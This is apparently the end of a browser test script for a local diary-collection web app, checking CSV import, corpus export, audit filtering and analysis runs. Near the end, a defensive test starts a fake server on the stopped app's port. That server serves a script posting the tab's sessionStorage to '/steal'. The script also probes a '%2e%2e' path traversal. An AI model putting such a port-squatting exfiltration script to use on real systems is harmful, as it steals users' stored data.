    const cliMessage = cli.stderr.split("\n")[0].replace(/^carnet-collect: /, "")
      .replace(badFile, "bad.csv");
    const uploadAndPreview = async (file) => {
      await a.goto(base + "/import", { waitUntil: "load" });
      const input = await a.$("#import-file");
      await input.uploadFile(file);
      await a.waitForFunction(() => document.getElementById("import-data").value !== "");
      const [resp] = await Promise.all([a.waitForNavigation(), a.click("#preview")]);
      return resp.status();
    };
    let status = await uploadAndPreview(badFile);
    check("import refused with the CLI's message", status === 422 &&
      (await text(a, "#err-file")) === cliMessage, [await text(a, "#err-file"), cliMessage]);
    // the file's button takes the focus, described by the refusal (trial 68: the body had it)
    const importFocus = await a.evaluate(() => document.activeElement.id + " " +
      document.activeElement.getAttribute("aria-describedby"));
    check("an import refused focuses the file, tied to its message",
      importFocus === "import-file err-file", importFocus);
    // A Windows-1252 file left on UTF-8: its bytes reach the desk as they are, and it is
    // refused as the CLI refuses it (the browser once decoded it into U+FFFD and imported it).
    const cpFile = path.join(up, "cp.csv");
    fs.writeFileSync(cpFile, Buffer.from("participant,date,text\nT01,2025-01-22,\xe9t\xe9\n", "latin1"));
    const cpCli = spawnSync(collect, ["--db", db, "import", cpFile], { encoding: "utf8" });
    const cpMessage = cpCli.stderr.split("\n")[0].replace(/^carnet-collect: /, "")
      .replace(cpFile, "cp.csv");
    status = await uploadAndPreview(cpFile);
    check("a Windows-1252 file on UTF-8 refused as the CLI does", cpCli.status !== 0 &&
      status === 422 && (await text(a, "#err-file")) === cpMessage,
      [await text(a, "#err-file"), cpMessage]);
    const goodFile = path.join(up, "more.csv");
    fs.writeFileSync(goodFile, "participant,date,text\nT01,2025-01-22,Importé un.\n" +
      "T01,2025-01-23,Importé deux.\nT01,2025-01-11,\"Deuxième jour, la fatigue.\"\n");
    const before = Number(spawnSync("sqlite3", [db, "select count(*) from entry"],
      { encoding: "utf8" }).stdout);
    status = await uploadAndPreview(goodFile);
    check("preview: 2 to add, 1 duplicate", status === 200 &&
      (await text(a, "#n-e-added")) === "2" && (await text(a, "#n-e-dup")) === "1");
    await layout(a, "import-preview");
    const afterPreview = Number(spawnSync("sqlite3", [db, "select count(*) from entry"],
      { encoding: "utf8" }).stdout);
    check("the preview stores nothing", afterPreview === before, [before, afterPreview]);
    await Promise.all([a.waitForNavigation(), a.click("#commit")]);
    const afterCommit = Number(spawnSync("sqlite3", [db, "select count(*) from entry"],
      { encoding: "utf8" }).stdout);
    check("imported whole", (await text(a, "#n-e-added")) === "2" &&
      afterCommit === before + 2, [before, afterCommit]);
    fs.rmSync(up, { recursive: true, force: true });
    // Export: the corpus as the CLI writes it; the audit trail filtered.
    await a.goto(base + "/export", { waitUntil: "load" });
    await layout(a, "export");
    const dl = await a.evaluate(async (b) => {
      const r = await fetch(b + "/export/corpus.txt?vars=part%2Ccare&where=care%3Dlt1");
      return { status: r.status, disposition: r.headers.get("content-disposition"),
        body: await r.text() };
    }, base);
    const cliCorpus = spawnSync(collect, ["--db", db, "export", "corpus", "--vars", "part,care",
      "--where", "care=lt1"], { encoding: "utf8" });
    check("corpus download = export corpus", dl.status === 200 &&
      /attachment; filename="corpus.txt"/.test(dl.disposition) && dl.body === cliCorpus.stdout &&
      dl.body.length > 1000, [dl.status, dl.disposition, dl.body.length, cliCorpus.stdout.length]);
    await a.$eval("#vars", (e) => { e.value = "part,nope"; });
    const [bad] = await Promise.all([a.waitForNavigation(), a.click("#download")]);
    check("a bad variable refused by its field", bad.status() === 422 &&
      /nope/.test(await text(a, "#err-vars")));
    await a.goto(base + "/audit?participant=T01&action=reconciled", { waitUntil: "load" });
    check("audit filtered: the reconciliation of T01's entry",
      (await text(a, "#n-records")) === "1" &&
      /"reconciler":"EF"/.test(await text(a, "table.audit")));
    await a.goto(base + "/audit?participant=T01", { waitUntil: "load" });
    await layout(a, "audit");
    // Themes: carnet-analyse started from the desk, its report served from the run folder
    // only as its index lists it.
    await a.goto(base + "/themes", { waitUntil: "load" });
    await a.$eval("#where", (e) => { e.value = "care=lt1,"; });
    const [badWhere] = await Promise.all([a.waitForNavigation(), a.click("#start")]);
    check("a malformed condition refused by its field, no analysis started",
      badWhere.status() === 422 && /care=lt1,/.test(await text(a, "#err-where")) &&
      !fs.existsSync(db + ".runs") || fs.readdirSync(db + ".runs").length === 0,
      await text(a, "main"));
    await a.$eval("#where", (e) => { e.value = ""; });
    await Promise.all([a.waitForNavigation(), a.click("#start")]);
    const runUrl = a.url();
    const runName = (runUrl.match(/\/themes\/(run-[0-9-]+)$/) || [])[1];
    check("analysis started", runName !== undefined, runUrl);
    // a running analysis's page is updated in place, never reloaded (trial 48)
    const live = await a.evaluate(() => {
      window.notReloaded = true;
      return !!document.getElementById("run-state").getAttribute("data-refresh");
    });
    await a.waitForFunction(() => !document.getElementById("run-state") ||
      /Finished|Ended/.test(document.getElementById("run-state").textContent),
    { timeout: 60000, polling: 500 });
    await a.waitForSelector("#run-state");
    check("analysis finished with a report", /Finished/.test(await text(a, "#run-state")) &&
      (await a.$("a.report")) !== null, await text(a, "main"));
    if (live)
      check("its page updated in place, the end focused", await a.evaluate(() =>
        window.notReloaded === true && document.activeElement.id === "run-state"));
    await layout(a, "themes-run");
    const runDir = db + ".runs/" + runName;
    const mode = fs.statSync(runDir).mode & 0o777;
    check("run folder 0700 beside the database", mode === 0o700 &&
      (fs.statSync(db + ".runs").mode & 0o777) === 0o700, mode.toString(8));
    const [report] = await Promise.all([a.waitForNavigation(), a.click("a.report")]);
    const rcsp = report.headers()["content-security-policy"] || "";
    check("report served, sandboxed", report.status() === 200 && /sandbox/.test(rcsp) &&
      !/script-src/.test(rcsp) && (await a.$$("svg, img, table")).length > 0, rcsp);
    const [fig] = await Promise.all([a.waitForNavigation(), a.click("a[href$='.png']")]);
    check("the report's links open the run's files", fig.status() === 200 &&
      /^image\/png/.test(fig.headers()["content-type"]), fig.status());
    // (from node, with the session cookie)
    const probes = {};
    for (const p of ["/runs/" + runName + "/log.txt", "/runs/" + runName + "/corpus.txt",
      "/runs/" + runName + "/%2e%2e/corpus.txt", "/runs/" + runName + "/.carnet-files",
      "/runs/run-1/report.html"])
      probes[p] = (await fetch(base + p, { headers: { cookie } })).status;
    check("no other file served from the run folder",
      Object.values(probes).every((s) => s === 404), probes);
    const listedFile = await fetch(base + "/runs/" + runName + "/report.html",
      { headers: { cookie } });
    check("the listed report is served to the session", listedFile.status === 200,
      listedFile.status);
    // the list says what each analysis was asked for and holds; a run's page deletes it
    // (trial 69: 30 timestamps, 2.4 GB of corpus copies, no way to remove one)
    await a.goto(base + "/themes", { waitUntil: "load" });
    check("the analysis listed as asked, finished, its size", new RegExp(runName +
      " started [0-9-]+ [0-9:]+ · the whole corpus · finished · [0-9.]+ MB").test(await text(a, "#runs")),
    await text(a, "#runs"));
    await a.goto(base + "/themes/" + runName, { waitUntil: "load" });
    await Promise.all([a.waitForNavigation(), a.click("#delete")]);
    check("an analysis deleted from its page, said on the list", !fs.existsSync(runDir) &&
      new RegExp(runName + " deleted").test(await text(a, "#note")) &&
      !new RegExp(runName).test(await text(a, "#runs")), await text(a, "main"));
    // A saved entry's text is not kept in the tab's memory (a data-protection review found
    // it in sessionStorage after the save).
    const drafts = () => page.evaluate(() => Object.keys(sessionStorage)
      .filter((k) => k.indexOf("carnet-draft:") === 0).map((k) => sessionStorage.getItem(k)));
    await page.goto(base + "/p/P03/new", { waitUntil: "load" });
    await page.focus("#text");
    await page.keyboard.type("Une page qui sera gardée.");
    await page.waitForFunction(() => /draft kept/.test(
      document.getElementById("draft-state").textContent), { timeout: 8000 }).catch(() => {});
    const whileTyped = await drafts();
    await submitWithCtrlEnter(page);
    const onceSaved = await drafts();
    // ... nor before: the tab keeps a fingerprint of the draft it sent, which a page of the
    // same address (a program on a stopped desk's port, trial 54) could read, not its text
    check("a draft's fingerprint in sessionStorage, never its text, forgotten once saved",
      whileTyped.some((v) => /"fp":\d+/.test(v)) &&
      whileTyped.concat(onceSaved).every((v) => !/sera gardée/.test(v)) &&
      onceSaved.length === 0, { whileTyped, onceSaved });
    check("no script error", jsErrors.length === 0, jsErrors);
    // The desk stopped with a form open, and another program takes its port at once: the
    // page sends it no text and no cookie, as a draft or a save (a data-protection review
    // had one take the port within a second, and be sent every draft with the cookie). The
    // page asks the desk for its proof (GET /alive, no cookie) before it sends a text.
    const port = Number(new URL(base).port);
    await page.goto(base + "/p/T01/new", { waitUntil: "load" });
    await page.focus("#text");
    await page.keyboard.type("Texte tapé avant l'arrêt.");
    await page.waitForFunction(() => /draft kept/.test(
      document.getElementById("draft-state").textContent), { timeout: 8000 }).catch(() => {});
    server.child.kill("SIGTERM");
    await new Promise((resolve) => server.child.once("exit", resolve));
    const squatted = [];
    const squatter = http.createServer((req, res) => {
      squatted.push({ what: req.method + " " + req.url, cookie: req.headers.cookie || "" });
      res.end("ok");
    });
    await new Promise((resolve) => squatter.listen(port, "127.0.0.1", resolve));
    await page.keyboard.type(" Encore, après.");
    await page.waitForFunction(() => /not answering/.test(
      document.getElementById("draft-state").textContent), { timeout: 8000 }).catch(() => {});
    // at once, as an alert (trial 68: a screen reader's user typed on, unaware)
    check("a stopped desk is said, as an alert", /not answering/.test(await text(page,
      "#draft-state")) && (await page.$eval("#draft-state", (e) => e.getAttribute("role"))) ===
      "alert", await text(page, "#draft-state"));
    await page.keyboard.down("Control");
    await page.keyboard.press("Enter");
    await page.keyboard.up("Control");
    await page.waitForSelector("#desk-gone", { timeout: 5000 }).catch(() => {});
    check("a save on a stopped desk is not sent, and said", /^Not sent: the desk is not answering/
      .test(await text(page, "#desk-gone").catch(() => "")), squatted);
    const sentBefore = squatted.slice();
    // Reloaded, the tab is that program's page, at the desk's address: what it can read of
    // the tab's memory holds no text (trial 54: the drafts were there)
    let stolen = null;
    squatter.removeAllListeners("request");
    squatter.on("request", (req, res) => {
      if (req.method === "POST") {
        let b = "";
        req.on("data", (d) => { b += d; });
        req.on("end", () => { stolen = b; res.end(); });
        return;
      }
      res.setHeader("content-type", "text/html");
      res.end("<script>fetch('/steal', {method: 'POST', body: " +
        "JSON.stringify(Object.assign({}, sessionStorage))})</script>");
    });
    await page.reload({ waitUntil: "load" }).catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 500));
    await page.close();
    await new Promise((resolve) => setTimeout(resolve, 300)); // a beacon, had one been sent
    squatter.close();
    check("the program on the stopped desk's port got no text and no cookie",
      sentBefore.length > 0 && sentBefore.every((q) =>
        /^GET \/d[0-9a-f]{32}\/alive$/.test(q.what) && !q.cookie), sentBefore);
    check("the tab's memory read by that program holds no text", stolen !== null &&
      /carnet-draft/.test(stolen) && !/avant l|arrêt|Encore/.test(stolen), stolen);
  } finally {
    await browser.close();
    server.child.kill("SIGTERM");
  }
}

main().then(() => {
  console.log(failures ? failures + " check(s) failed" : "all checks passed");
  process.exit(failures ? 1 : 0);
}, (e) => {
  console.log("FAIL " + (e && e.stack || e));
  process.exit(1);
});
